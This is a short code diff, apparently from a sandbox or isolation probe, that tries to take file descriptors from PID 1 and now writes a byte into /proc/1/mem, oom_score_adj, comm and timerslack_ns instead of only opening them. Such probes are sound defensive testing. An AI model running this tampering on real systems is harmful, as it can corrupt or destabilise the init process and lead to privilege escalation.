@@ -36,7 +36,7 @@ handle = os.pidfd_open(1)
 done += [fd for fd in range(200) if libc.syscall(numbers[2], handle, fd, 0) >= 0]
 for path in ("/proc/1/mem", "/proc/1/oom_score_adj", "/proc/1/comm", "/proc/1/timerslack_ns"):
     try:
-        os.close(os.open(path, os.O_WRONLY))
+        os.write(os.open(path, os.O_WRONLY), b"1")
         done.append(path)
     except OSError:
         pass
